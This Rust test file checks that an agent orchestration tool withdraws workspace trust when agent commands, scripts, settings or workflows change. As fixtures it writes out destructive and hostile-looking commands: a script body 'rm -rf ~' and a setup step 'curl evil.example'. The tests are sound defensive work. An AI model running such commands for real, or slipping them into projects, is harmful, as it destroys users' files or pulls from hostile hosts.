//! Trust in a workspace: granted, bound to what was seen, taken back.

use crate::support::{Folders, agent};
use orchestra_runtimes::catalog::trust::{self, Brought, Status, TrustError};
use std::{fs, os::unix::fs::PermissionsExt as _, thread};

impl Folders {
    fn status(&self) -> Status {
        trust::status(&self.state, &self.root, self.load().brought()).unwrap()
    }

    fn grant(&self) {
        trust::grant(&self.state, &self.root, self.load().brought()).unwrap();
    }

    /// What has changed, as people read it.
    fn changes(&self) -> Vec<String> {
        match self.status() {
            Status::Changed(changes) => changes.iter().map(ToString::to_string).collect(),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn nothing_is_trusted_until_somebody_says_so_and_no_longer_than_they_do() {
    let folders = Folders::new();
    folders.file(".orchestra/agents/coder.md", agent(""));
    assert_eq!(folders.status(), Status::Untrusted);
    folders.grant();
    assert_eq!(folders.status(), Status::Trusted);
    let mode = fs::metadata(folders.state.join("trust.json")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    assert!(trust::revoke(&folders.state, &folders.root).unwrap());
    assert_eq!(folders.status(), Status::Untrusted);
    assert!(!trust::revoke(&folders.state, &folders.root).unwrap());
}

#[test]
fn trust_ends_with_the_command_line_that_was_looked_at() {
    let folders = Folders::new();
    folders.file(".orchestra/agents/coder.md", agent(""));
    folders.grant();
    // Words for the agent are no command.
    folders.file(".orchestra/agents/coder.md", agent("description: other").replace("Work", "Rest"));
    assert_eq!(folders.status(), Status::Trusted);

    let command = "---\ncommand: [agent, --yolo, \"{prompt}\"]\n---\n";
    folders.file(".orchestra/agents/coder.md", command);
    assert_eq!(
        folders.changes(),
        [r#"agent coder was ["agent", "{prompt}"], and is now ["agent", "--yolo", "{prompt}"]"#]
    );
    folders.grant();
    folders.file(".orchestra/agents/coder.md", command.replace("---\nc", "---\nenv: [TOKEN]\nc"));
    assert!(folders.changes()[0].ends_with("with TOKEN"), "{:?}", folders.changes());
    folders.grant();
    folders.file(".orchestra/agents/new.md", agent(""));
    assert_eq!(folders.changes(), [r#"agent new is new: ["agent", "{prompt}"]"#]);
    fs::remove_file(folders.root.join(".orchestra/agents/new.md")).unwrap();
    assert_eq!(folders.status(), Status::Trusted);
}

#[test]
fn trust_ends_with_the_content_of_a_script_of_the_workspace() {
    let folders = Folders::new();
    let program = folders.root.join("tools/agent");
    folders.program(&program);
    folders.file("run.py", "print(1)");
    folders
        .file(".orchestra/agents/local.md", "---\ncommand: [./tools/agent, \"{prompt}\"]\n---\n");
    folders
        .file(".orchestra/agents/script.md", "---\ncommand: [agent, run.py, \"{prompt}\"]\n---\n");
    folders.grant();
    assert_eq!(folders.status(), Status::Trusted);
    fs::write(&program, "#!/bin/sh\nrm -rf ~\n").unwrap();
    let changes = folders.changes();
    assert_eq!(changes.len(), 1);
    assert!(changes[0].starts_with("agent local was"), "{changes:?}");
    folders.grant();
    folders.file("run.py", "print(2)");
    assert!(folders.changes()[0].starts_with("agent script was"));
    fs::remove_file(folders.root.join("run.py")).unwrap();
    assert!(folders.changes()[0].starts_with("agent script was"));
}

#[test]
fn agents_of_the_user_need_no_trust_in_the_workspace() {
    let folders = Folders::new();
    folders.grant();
    folders.user_file("agents/mine.md", agent(""));
    assert_eq!(folders.status(), Status::Trusted);
    // Unless the workspace brings one that takes its place.
    folders.file(".orchestra/agents/mine.md", agent(""));
    assert!(matches!(folders.status(), Status::Changed(_)));
}

#[test]
fn trust_that_cannot_be_read_is_an_error_and_kept_as_it_is() {
    let folders = Folders::new();
    folders.grant();
    let file = folders.state.join("trust.json");
    for (text, expected) in [
        ("{", "is not a list of trusted workspaces"),
        ("{\"version\":9,\"workspaces\":\"?\"}", "has format 9, and this build reads format 1"),
    ] {
        fs::write(&file, text).unwrap();
        let error = trust::status(&folders.state, &folders.root, Brought::default())
            .unwrap_err()
            .to_string();
        assert!(error.contains(expected) && error.contains("trust.json"), "{error}");
        assert!(trust::grant(&folders.state, &folders.root, Brought::default()).is_err());
        assert_eq!(fs::read_to_string(&file).unwrap(), text);
    }
    fs::remove_file(&file).unwrap();
    fs::create_dir(&file).unwrap();
    let error = trust::status(&folders.state, &folders.root, Brought::default());
    assert!(matches!(error, Err(TrustError::Io { .. })), "{error:?}");
}

#[test]
fn grants_at_the_same_time_are_all_kept() {
    let folders = Folders::new();
    let roots: Vec<_> = (0..8).map(|number| folders.outside.join(format!("w{number}"))).collect();
    thread::scope(|scope| {
        for root in &roots {
            let state = &folders.state;
            scope.spawn(move || trust::grant(state, root, Brought::default()).unwrap());
        }
    });
    for root in &roots {
        assert_eq!(
            trust::status(&folders.state, root, Brought::default()).unwrap(),
            Status::Trusted
        );
    }
}

#[test]
fn trust_ends_with_the_commands_that_were_looked_at() {
    let folders = Folders::new();
    folders.grant();
    folders.file(".orchestra/config.toml", "verify.commands = [\"cargo test\"]\n");
    assert_eq!(folders.changes(), [r#"setting verify.commands is new: [["cargo", "test"]]"#]);
    folders.grant();
    assert_eq!(folders.status(), Status::Trusted);
    let config = "verify.commands = [\"cargo test\"]\ntree.setup = [\"curl evil.example\"]\n";
    folders.file(".orchestra/config.toml", config);
    assert_eq!(folders.changes(), [r#"setting tree.setup is new: [["curl", "evil.example"]]"#]);
    folders.grant();
    let workflow = "verify: make\nsteps: [{ id: a, agent: coder, prompt: hi, accept: make it }]\n";
    folders.file(".orchestra/workflows/build.yaml", workflow);
    assert_eq!(folders.changes(), [r#"workflow build is new: [["make"], ["make", "it"]]"#]);
    folders.grant();
    folders.file(".orchestra/workflows/build.yaml", workflow.replace("verify: make", "verify: rm"));
    assert_eq!(
        folders.changes(),
        [r#"workflow build was [["make"], ["make", "it"]], and is now [["rm"], ["make", "it"]]"#]
    );
    // One command less is nothing that could run.
    folders.file(".orchestra/workflows/build.yaml", "steps: [{ id: a, action: todo.scan }]\n");
    assert_eq!(folders.status(), Status::Trusted);
}

#[test]
fn commands_of_the_user_need_no_trust_and_scripts_of_the_workspace_are_part_of_theirs() {
    let folders = Folders::new();
    folders.grant();
    folders.user_file("config.toml", "verify.commands = [\"make\"]\n");
    folders.user_file("workflows/mine.yaml", "verify: make\nsteps: []\n");
    assert_eq!(folders.status(), Status::Trusted);

    folders
        .file(".orchestra/config.toml", "verify.commands = [[\"./check.sh\", \"tests/a.py\"]]\n");
    folders.file("check.sh", "#!/bin/sh\n");
    folders.file("tests/a.py", "assert True\n");
    folders.grant();
    folders.file("tests/a.py", "assert False\n");
    assert_eq!(folders.status(), Status::Trusted);
    folders.file("check.sh", "#!/bin/sh\nrm -rf ~\n");
    assert!(folders.changes()[0].starts_with("setting verify.commands was"));
}

#[test]
fn a_grant_of_an_older_build_is_read_and_knows_no_commands() {
    let folders = Folders::new();
    folders.file(".orchestra/agents/coder.md", agent(""));
    folders.grant();
    let file = folders.state.join("trust.json");
    let mut written: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    for grant in written["workspaces"].as_object_mut().unwrap().values_mut() {
        assert!(grant.as_object_mut().unwrap().remove("commands").is_some());
    }
    fs::write(&file, written.to_string()).unwrap();
    assert_eq!(folders.status(), Status::Trusted);
    folders.file(".orchestra/config.toml", "verify.commands = [\"make\"]\n");
    assert_eq!(folders.changes(), [r#"setting verify.commands is new: [["make"]]"#]);
}
